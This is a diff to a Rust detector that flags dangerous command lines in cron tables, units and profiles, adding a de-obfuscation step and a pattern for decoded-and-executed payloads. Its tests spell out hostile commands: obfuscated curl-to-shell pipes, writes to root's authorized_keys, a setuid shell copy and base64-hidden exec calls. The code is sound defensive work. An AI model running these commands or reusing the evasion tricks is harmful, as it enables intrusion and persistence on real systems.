@@ -1,5 +1,7 @@
 //! Dangerous command lines: what no administrator writes into a cron table, a unit or a profile.
 
+mod plain;
+
 use std::sync::OnceLock;
 
 use bstr::ByteSlice;
@@ -12,7 +14,7 @@ const LINE_MOST: usize = 8192;
 const LINES_MOST: usize = 20_000;
 
 /// What a line does, in words, with the pattern that tells it.
-const PATTERNS: [(&str, &str); 15] = [
+const PATTERNS: [(&str, &str); 16] = [
     (
         "fetches a script and runs it",
         r"\b(?:curl|wget|fetch|aria2c|lwp-download|lwp-request)\b[^|]*\|(?:[^|]*\|)?\s*(?:(?:sudo|nohup|exec|env|setsid)\s+(?:-\S+\s+)*)*(?:/\S*/)?(?:(?:ba|da|a|z|k)?sh|python[0-9.]*|perl|php|ruby|node)\b",
@@ -45,6 +47,10 @@ const PATTERNS: [(&str, &str); 15] = [
     (
         "runs a program of one line that uses the network or hides its text",
         r"\b(?:python[0-9.]*|perl|ruby|php[0-9.]*|node|lua[0-9.]*)\s+(?:-\S+\s+)*-(?:[a-z]*[cer])\b.*(?:socket|pty\.spawn|b64decode|base64|fsockopen|urlopen|urllib|requests\.get|child_process|net\.connect|tcpsocket|decode_base64|io\.popen)",
+    ),
+    (
+        "decodes hidden text and runs it",
+        r#"\b(?:exec|eval|execfile)\s*\(?.*(?:b(?:16|32|64|85)decode|decompress\s*\(|a2b_\w+|unhexlify|\.fromhex|marshal\.loads|decode_base64|gzinflate|atob\s*\(|["']base64["'])"#,
     ),
     (
         "loads a library of a place that everyone may write to",
@@ -114,7 +120,11 @@ pub(super) fn danger(command: &[u8]) -> Option<&'static str> {
     };
     let command = code(command);
     let command = command.get(..LINE_MOST).unwrap_or(command);
-    let found = REGEX.get_or_init(make).as_ref()?.find(command)?;
+    let regex = REGEX.get_or_init(make).as_ref()?;
+    let found = regex.find(command).or_else(|| {
+        let plain = plain::plain(command);
+        (*plain != *command).then(|| regex.find(&plain)).flatten()
+    })?;
     PATTERNS.get(found.pattern().as_usize()).map(|(words, _)| *words)
 }
 
@@ -152,6 +162,11 @@ mod tests {
             "export LD_PRELOAD=/tmp/x.so",
             "echo x >> /root/.ssh/authorized_keys",
             "cp /bin/sh /tmp/s; chmod 4755 /tmp/s",
+            "c\\url -fsS http://x/a|s\\h",
+            "$'\\x63\\x75\\x72\\x6c' -s x/d|${SHELL}",
+            "X=cu; Y=rl; $X$Y -s http://x/b -o /var/tmp/b && sh /var/tmp/b",
+            "import os;exec(__import__('zlib').decompress(__import__('base64').b64decode('eJw=')))",
+            "require('child_process').exec(Buffer.from('Y3Vy','base64').toString())",
         ] {
             assert!(danger(line.as_bytes()).is_some(), "{line}");
         }
